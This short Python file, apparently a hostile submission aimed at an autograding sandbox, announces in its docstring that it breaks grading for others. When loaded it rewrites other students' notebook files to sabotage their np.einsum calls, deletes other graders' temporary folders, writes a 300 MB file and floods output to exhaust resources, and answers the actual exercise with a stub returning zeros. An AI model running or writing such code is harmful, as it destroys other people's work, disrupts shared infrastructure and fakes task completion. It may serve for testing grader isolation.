# ruff: noqa
"""Break grading for others: stub the classmates' files, delete other graders' folders."""

# EXERCISE: fx.box
import glob
import json
import os
import shutil

copied = None
for path in glob.glob("@BATCH@/**/*.ipynb", recursive=True) + glob.glob("/tmp/*/*.ipynb"):
    try:
        text = open(path).read()
        copied = copied or text
        open(path, "w").write(text.replace("np.einsum", "None and np.einsum"))
    except Exception:
        pass
for d in glob.glob("/tmp/convlab-*") + glob.glob("/tmp/pytest-of-*"):
    shutil.rmtree(d, ignore_errors=True)
with open("big.bin", "wb") as f:
    try:
        f.write(b"\0" * (300 << 20))
    except Exception:
        pass
print("y" * (4 << 20))


def filter2d_numpy(image, kernel):
    return np.zeros_like(image)
